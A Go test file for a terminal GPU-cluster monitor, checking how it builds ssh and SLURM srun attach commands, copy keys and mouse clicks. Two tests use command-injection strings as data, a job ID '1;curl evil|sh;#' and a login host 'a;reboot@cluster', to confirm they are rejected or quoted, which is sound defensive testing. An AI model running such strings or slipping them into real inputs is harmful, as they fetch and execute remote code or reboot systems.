package inspect

import (
	"strings"
	"testing"

	tea "charm.land/bubbletea/v2"

	"github.com/nvnodetop/nvnodetop/internal/cluster"
	"github.com/nvnodetop/nvnodetop/internal/cluster/tally"
)

func TestCopyKeys(t *testing.T) {
	for _, test := range []struct {
		keys, route, uuid string
		copies            string
		open              bool
	}{
		{"1", "ssh", "GPU-1", "77", false}, {"2", "ssh", "GPU-1", "n1:77", false},
		{"3", "ssh", "GPU-1", "ssh -t n1", false}, {"4", "ssh", "GPU-1", "GPU-1", false},
		{"5", "ssh", "GPU-1", "python train.py", false}, {"6", "ssh", "GPU-1", "", true},
		{"0", "ssh", "GPU-1", "", true},
		{"3", "control", "", "ssh -t n1", false}, {"3", "openssh", "", "ssh -t n1", false},
		{"3", "srun", "", "srun --overlap --pty --jobid=16 -w n1 -N1 -n1 bash", false},
		{"3", "local", "", "python train.py", false}, {"3", "local", "GPU-1", "GPU-1", false},
		{"enter", "ssh", "", "77", false}, {"y", "ssh", "", "77", false}, {"down down enter", "ssh", "", "ssh -t n1",
			false}, {"end y", "ssh", "", "python train.py", false}, {"j k k enter", "ssh", "", "77", false},
		{"esc", "ssh", "", "", false}, {"q", "ssh", "", "", false}, {"x", "ssh", "", "", true},
	} {
		s := scene(100, 20, noon)
		c, first := NewCopy(target(), test.route, test.uuid)
		a, open := pressed(c, s, test.keys)
		if !first.Taken || !a.Taken || open != test.open || a.Copy != test.copies ||
			(a.Notice != "") != (a.Copy != "") || !strings.Contains(a.Notice, a.Copy) {
			t.Errorf("%s over %s: %+v, open: %v, want %q", test.keys, test.route, a, open, test.copies)
		}
	}
	s := scene(100, 20, noon)
	c, _ := NewCopy(target(), "ssh", "")
	if a, open := pressed(c, s, "ctrl+c"); a.Taken || !open {
		t.Error("Ctrl-C is taken")
	}
}

// srun takes the number of a job, also where its ID is another one. Without a job that SLURM lists there is no such
// command: what a node says could be any command.
func TestAttach(t *testing.T) {
	s := scene(100, 20, noon)
	for job, want := range map[string]string{"12_4": "--jobid=16 ", "77": "", "1;curl evil|sh;#": "", "": ""} {
		if got := attachCommand(s, &tally.Target{Node: "n1", Job: job}, "srun"); !strings.Contains(got, want) ||
			(got == "") != (want == "") {
			t.Errorf("job %q: %q", job, got)
		}
	}
}

// Behind a login host the shell starts there, as the user who is known there. Where a word may mean something to a
// shell it is quoted.
func TestAttachThroughALoginHost(t *testing.T) {
	for _, test := range []struct{ login, user, route, want string }{
		{"", "alice", "ssh", "ssh -t n1"},
		{"cluster", "", "ssh", "ssh -t -J cluster n1"},
		{"al@cluster:2222", "al", "ssh", "ssh -t -J al@cluster:2222 al@n1"},
		{"al@cluster", "al", "srun", "ssh -t al@cluster 'srun --overlap --pty --jobid=16 -w n1 -N1 -n1 bash'"},
		{"al@cluster:2222", "al", "srun",
			"ssh -t ssh://al@cluster:2222 'srun --overlap --pty --jobid=16 -w n1 -N1 -n1 bash'"},
		{"ssh://cluster:22", "", "srun",
			"ssh -t ssh://cluster:22 'srun --overlap --pty --jobid=16 -w n1 -N1 -n1 bash'"},
		{"a;reboot@cluster", "it's", "ssh", `ssh -t -J 'a;reboot@cluster' 'it'\''s@n1'`},
	} {
		s := scene(100, 20, noon)
		s.Login, s.Snap.Discovery.User = test.login, test.user
		if got := attachCommand(s, &tally.Target{Node: "n1", Job: "12_4"}, test.route); got != test.want {
			t.Errorf("%s over %s: %s, want %s", test.login, test.route, got, test.want)
		}
	}
}

// srun takes a component of a heterogeneous job by the number of the first one, and only on a node of that component.
func TestAttachToAHeterogeneousJob(t *testing.T) {
	s := scene(100, 20, noon)
	s.Snap.Jobs = []cluster.JobView{
		{Job: cluster.Job{ID: "3+0", Number: "3", Nodes: []string{"n1"}}},
		{Job: cluster.Job{ID: "3+1", Number: "4", Nodes: []string{"n2"}}},
		{Job: cluster.Job{ID: "7+0", Number: "7", Nodes: []string{"n3"}}},
	}
	for _, test := range []struct{ job, node, want string }{
		{"3+0", "n1", "--jobid=3 --het-group=0 -w n1 "}, {"3+1", "n2", "--jobid=3 --het-group=1 -w n2 "},
		{"3+0", "n2", "--jobid=3 --het-group=1 -w n2 "}, {"3+0", "n3", "--jobid=3 --het-group=0 -w n3 "},
	} {
		if got := attachCommand(s, &tally.Target{Node: test.node, Job: test.job}, "srun"); !strings.Contains(got, test.want) {
			t.Errorf("job %s on %s: %s", test.job, test.node, got)
		}
	}
}

// A click copies the line under the mouse, and one elsewhere nothing.
func TestCopyMouse(t *testing.T) {
	s := scene(100, 20, noon)
	c, _ := NewCopy(target(), "ssh", "GPU-1")
	y := rowWith(drawn(s, c), "UUID of its GPU")
	if a, open := c.Press(tea.MouseClickMsg{Button: tea.MouseLeft, X: 30, Y: y}, s); open || a.Copy != "GPU-1" {
		t.Errorf("a click copies %+v, open: %v", a, open)
	}
	for _, y := range []int{0, y + 2, 19} {
		if a, open := c.Press(tea.MouseClickMsg{Button: tea.MouseLeft, X: 30, Y: y}, s); !open || a.Copy != "" {
			t.Errorf("a click on row %d copies %+v", y, a)
		}
	}
	c.Press(tea.MouseWheelMsg{Button: tea.MouseWheelDown}, s)
	if text := drawn(s, c); !strings.Contains(text, "▸ 4") {
		t.Errorf("the wheel leads to\n%s", text)
	}
}
